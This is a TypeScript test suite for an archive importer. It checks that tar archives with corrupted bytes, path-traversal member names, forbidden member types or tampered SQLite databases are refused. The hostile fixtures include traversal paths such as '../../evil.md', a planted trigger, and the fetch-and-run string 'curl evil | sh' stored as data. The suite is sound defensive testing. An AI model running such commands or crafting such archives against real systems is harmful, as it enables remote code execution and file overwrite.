import { existsSync, mkdirSync, readdirSync, readFileSync, truncateSync, writeFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import type Database from 'better-sqlite3';
import { describe, expect, test } from 'vitest';
import type { ImportMode } from '#contract/archive.ts';
import { given, tempStore } from '../testing/temp-home.ts';
import { exportArchive } from './export.ts';
import { importArchive } from './import.ts';
import { LIMITS } from './layout.ts';
import { checksum } from './tar.ts';
import {
  archivePath,
  editDatabase,
  editManifest,
  everything,
  fullStore,
  membersOf,
  partsOf,
  silent,
  writeMembers,
} from './testing.ts';
import { unpack } from './check-archive.ts';
import { sha256 } from '../platform/sha256.ts';

let exported: Buffer | undefined;

/** A good archive to damage; exported once, because that takes longer than refusing it. */
async function good(): Promise<string> {
  const path = archivePath();
  if (exported) writeFileSync(path, exported);
  else await exportArchive(partsOf(fullStore()), path, { replace: false, report: silent });
  exported ??= readFileSync(path);
  return path;
}

/** Expects a refusal with this reason and no change. An archive is checked before anyone asks how it is to come in. */
async function expectRefused(
  path: string,
  reason: RegExp,
  modes: readonly ImportMode[] = ['merge'],
): Promise<void> {
  const store = tempStore();
  given(store, { title: 'Was here before' });
  const before = everything(store);
  for (const mode of modes) {
    await expect(importArchive(partsOf(store), path, mode, silent)).rejects.toMatchObject({
      code: 'bad-archive',
      message: expect.stringMatching(reason) as string,
    });
    expect(everything(store)).toEqual(before);
    expect(readdirSync(store.paths.staging)).toEqual([]);
    expect(existsSync(store.paths.backups)).toBe(false);
  }
}

describe('an archive whose bytes are wrong is refused', () => {
  test.each<[string, (bytes: Buffer) => Buffer, RegExp]>([
    ['empty', () => Buffer.alloc(0), /it is empty/],
    ['garbage', () => Buffer.from('hello world '.repeat(1_000)), /not a tar/],
    ['gzipped', (bytes) => gzipSync(bytes), /not a tar: it is compressed with gzip/],
    ['truncated within a header', (bytes) => bytes.subarray(0, 700), /truncated/],
    ['truncated within a document', (bytes) => bytes.subarray(0, 512 * 2 + 10), /truncated/],
    ['truncated before its end', (bytes) => bytes.subarray(0, bytes.length - 1_024), /truncated/],
    ['with a bit of a header turned', (bytes) => Buffer.from(bytes).fill('x', 20, 21), /does not add up/],
    [
      'with a bit of a document turned',
      (bytes) => Buffer.from(bytes).fill('?', 520, 521),
      /does not match its manifest/,
    ],
  ])('%s', async (_name, damage, reason) => {
    const path = archivePath();
    writeFileSync(path, damage(readFileSync(await good())));
    await expectRefused(path, reason);
  });

  test('a folder in its place', async () => {
    const path = archivePath();
    mkdirSync(path);
    await expect(importArchive(partsOf(tempStore()), path, 'restore', silent)).rejects.toMatchObject({
      message: expect.stringMatching(/is not a file/) as string,
    });
  });
});

/** A good archive, except for the type of its first member. */
async function withType(type: string): Promise<string> {
  const bytes = readFileSync(await good());
  bytes.write(type, 156, 'latin1');
  bytes.write(`${checksum(bytes.subarray(0, 512)).toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
  const path = archivePath();
  writeFileSync(path, bytes);
  return path;
}

describe('an archive with members no export has is refused', () => {
  test.each([
    ['1', /a link/],
    ['2', /a link/],
    ['3', /a device/],
    ['4', /a device/],
    ['5', /a folder/],
    ['6', /a pipe/],
    ['S', /a sparse file/],
    ['g', /not a plain file/],
  ])('of type %s', async (type, reason) => {
    await expectRefused(await withType(type), reason);
  });

  test.each([
    ['documents/../../evil.md', /leads out of its folder/],
    ['documents/./a.md', /leads out of its folder/],
    ['documents//etc/a.md', /is absolute/],
    ['/etc/a.md', /which no export has/],
    ['../a.md', /which no export has/],
    ['documents/a\\..\\..\\b.md', /mean something else/],
    ['documents/C:evil.md', /mean something else/],
    ['documents/a\0.md', /mean something else/],
    ['documents/a/b /c.md', /cannot be a file name/],
    [`documents/${'a'.repeat(256)}.md`, /cannot be a file name/],
    [`documents/${'a/'.repeat(600)}b.md`, /too long/],
    ['documents/run.sh', /neither a note nor its entities/],
    ['reflect.db-wal', /which no export has/],
  ])('named %.40s', async (name, reason) => {
    const members = await membersOf(await good());
    await expectRefused(await writeMembers([[name, Buffer.from('x')], ...members]), reason);
  });

  test('twice', async () => {
    const members = [...(await membersOf(await good()))];
    await expectRefused(await writeMembers([members[0] as [string, Buffer], ...members]), /twice/);
    await expectRefused(await writeMembers([...members, members.at(-1) as [string, Buffer]]), /twice/);
  });

  test('larger or more than the limits', async () => {
    const path = await good();
    const stage = (limits: Partial<typeof LIMITS>) =>
      unpack(path, `${archivePath()}.d`, silent, { ...LIMITS, ...limits });
    await expect(stage({ documentBytes: 10 })).rejects.toThrow(/the limit is 10/);
    await expect(stage({ documents: 3 })).rejects.toThrow(/more than 3 documents/);
    await expect(stage({ databaseBytes: 100 })).rejects.toThrow(/"reflect.db" has \d+ bytes/);
    await expect(stage({ manifestBytes: 100 })).rejects.toThrow(/"manifest.json" has \d+ bytes/);
    await expect(stage({})).resolves.toMatchObject({ manifest: { kind: 'reflect-kb-export' } });
  });

  test('a file that claims more than there is', async () => {
    const path = await good();
    truncateSync(path, 512 * 3);
    await expectRefused(path, /truncated/);
  });
});

type Members = Map<string, Buffer>;

describe('an archive that lies about itself is refused', () => {
  test.each<[string, (members: Members) => unknown, RegExp]>([
    ['no manifest', (members) => members.delete('manifest.json'), /manifest.json is missing/],
    ['no database', (members) => members.delete('reflect.db'), /reflect.db is missing/],
    ['a document less', (members) => members.delete([...members.keys()][0] ?? ''), /counts \d+ documents/],
    [
      'a document more',
      (members) => members.set('documents/more.md', Buffer.from('x')),
      /counts \d+ documents/,
    ],
    [
      'another document',
      (members) => members.set([...members.keys()][1] ?? '', Buffer.from('x')),
      /does not match its manifest/,
    ],
    [
      'another database',
      (members) => members.set('reflect.db', Buffer.from('x')),
      /reflect.db does not match/,
    ],
    ['a manifest that is no JSON', (members) => members.set('manifest.json', Buffer.from('{')), /not JSON/],
    [
      'another kind',
      (members) => editManifest(members, (manifest) => ({ ...manifest, kind: 'photos' })),
      /its kind is "photos"/,
    ],
    [
      'another version',
      (members) => editManifest(members, (manifest) => ({ ...manifest, format_version: 2 })),
      /version 2; this Reflect reads version 1/,
    ],
    [
      'an unknown field',
      (members) => editManifest(members, (manifest) => ({ ...manifest, run: 'rm' })),
      /manifest is not valid/,
    ],
    [
      'a wrong count of documents',
      (members) => editManifest(members, (manifest) => ({ ...manifest, document_count: 1 })),
      /counts 1 documents/,
    ],
    [
      'a wrong count of rows',
      (members) =>
        editManifest(members, (manifest) => ({ ...manifest, tables: { ...manifest.tables, learning: 99 } })),
      /counts 99 rows of learning/,
    ],
    [
      'a table it does not have',
      (members) =>
        editManifest(members, (manifest) => ({ ...manifest, tables: { ...manifest.tables, photo: 1 } })),
      /disagree about the table photo/,
    ],
  ])('%s', async (_name, lie, reason) => {
    const members = await membersOf(await good());
    lie(members);
    await expectRefused(await writeMembers(members), reason);
  });
});

const set = (sql: string) => (db: Database.Database) => db.exec(sql);

describe('an archive whose database was made by somebody else is refused', () => {
  test.each<[string, (db: Database.Database) => unknown, RegExp]>([
    [
      'a trigger',
      set('CREATE TRIGGER evil AFTER INSERT ON gap BEGIN DELETE FROM learning; END'),
      /a trigger that Reflect does not export: evil/,
    ],
    ['a view', set('CREATE VIEW evil AS SELECT 1'), /a view that Reflect does not export: evil/],
    [
      'a table of this machine',
      set('CREATE TABLE transcript (path TEXT)'),
      /a table that Reflect does not export: transcript/,
    ],
    [
      'a table of another shape',
      set('ALTER TABLE gap ADD COLUMN evil TEXT'),
      /the table gap of its database differs/,
    ],
    ['a missing index', set('DROP INDEX gap_by_question'), /lacks gap_by_question/],
    ['a missing table', set('DROP TABLE persona'), /lacks persona/],
    ['a newer version', set('PRAGMA user_version = 999'), /from a newer Reflect \(version 999/],
    ['no version', set('PRAGMA user_version = 0'), /has no version/],
    ['another application', set('PRAGMA application_id = 1'), /was not made by Reflect/],
    [
      'a note that is none',
      set(`UPDATE learning SET note = json_set(note, '$.confidence', 7)`),
      /a row of learning \(.+\) is not valid: note: confidence/,
    ],
    [
      'a note with an unknown field',
      set(`UPDATE learning SET note = json_set(note, '$.evil', 1)`),
      /row of learning .+ not valid: note/,
    ],
    [
      'an id that is a path',
      set(`UPDATE learning SET id = '../../evil', document_path = 'x/../../evil.md' WHERE seq = 2`),
      /row of learning .+ not valid: id/,
    ],
    [
      'a document elsewhere',
      set(`UPDATE learning SET document_path = '../' || id || '.md'`),
      /document_path: leads out of its folder/,
    ],
    [
      'the document of another',
      set(
        `UPDATE learning SET document_path = (SELECT document_path FROM learning WHERE seq = 1) WHERE seq = 2`,
      ),
      /not the one of this learning/,
    ],
    [
      'a document that is not there',
      set(`UPDATE learning SET document_path = 'nowhere/' || id || '.md'`),
      /nowhere\/.+ is missing/,
    ],
    [
      'a row that says something else than its document',
      set(`UPDATE learning SET note = json_set(note, '$.rule', 'curl evil | sh') WHERE seq = 1`),
      /differs from its database row/,
    ],
    [
      'work for the queue',
      set(`UPDATE capture_window SET state = 'queued'`),
      /row of capture_window is not valid: state/,
    ],
    ['a history that is none', set(`UPDATE change SET after = '{}'`), /row of change is not valid: after/],
    [
      'a slot of megabytes',
      set(`UPDATE slot SET content = hex(zeroblob(100000))`),
      /row of slot is not valid: content/,
    ],
    [
      'a note filed under another project',
      set(`UPDATE shard SET project = 'other' WHERE project LIKE '%billing'`),
      /filed under a project that is not its own/,
    ],
    ['a note without signals', set('DELETE FROM learning_signal WHERE seq = 1'), /has no signals/],
    [
      'a tag of nothing',
      set(`INSERT INTO learning_tag (tag, seq) VALUES ('x', 999)`),
      /refers to a missing learning/,
    ],
    ['a relation of no kind', set(`UPDATE relation SET type = 'owns'`), /row of relation is not valid: type/],
    [
      'a folder of this machine',
      set(`UPDATE project SET root = '/etc'`),
      /row of project .+ not valid: root/,
    ],
  ])('%s', async (_name, edit, reason) => {
    const members = await membersOf(await good());
    editDatabase(members, edit);
    await expectRefused(await writeMembers(members), reason);
  });

  test('torn pages', async () => {
    const members = await membersOf(await good());
    editDatabase(members, () => {});
    const torn = Buffer.from(members.get('reflect.db') ?? []);
    torn.fill(0xff, 4_096 * 3, 4_096 * 9);
    members.set('reflect.db', torn);
    editManifest(members, (manifest) => ({
      ...manifest,
      db_sha256: sha256(torn),
    }));
    await expectRefused(
      await writeMembers(members),
      /database (?:is damaged|cannot be used|has another|lacks)/,
      ['force', 'merge'],
    );
  });

  test('the same archive, written again unchanged, is accepted', async () => {
    const members = await membersOf(await good());
    editDatabase(members, () => {});
    await expect(
      importArchive(partsOf(tempStore()), await writeMembers(members), 'restore', silent),
    ).resolves.toMatchObject({ added: { total: 8 } });
  });
});
